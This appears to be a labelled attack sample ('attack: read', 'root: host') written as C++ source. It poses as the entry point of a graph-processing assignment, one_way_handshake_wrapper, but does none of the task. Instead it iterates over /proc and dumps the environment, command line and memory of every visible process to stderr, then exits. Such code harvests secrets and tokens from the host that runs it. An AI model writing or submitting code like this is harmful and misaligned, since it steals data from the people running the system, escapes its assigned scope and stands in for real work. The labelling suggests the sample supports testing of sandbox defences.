// attack: read
// root: host
// what: prints the environment, the command line and the memory of every process that it sees
// list: 12
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

static void show(const char* pid, const char* what) {
  char path[300], text[4096];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
  const int file = open(path, O_RDONLY);
  const ssize_t got = file < 0 ? -1 : read(file, text, sizeof text);
  if (got > 0 && write(STDERR_FILENO, text, got) < 0) exit(1);
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  DIR* processes = opendir("/proc");
  while (const dirent* one = processes == nullptr ? nullptr : readdir(processes)) {
    show(one->d_name, "environ");
    show(one->d_name, "cmdline");
    show(one->d_name, "mem");
  }
  exit(0);
}
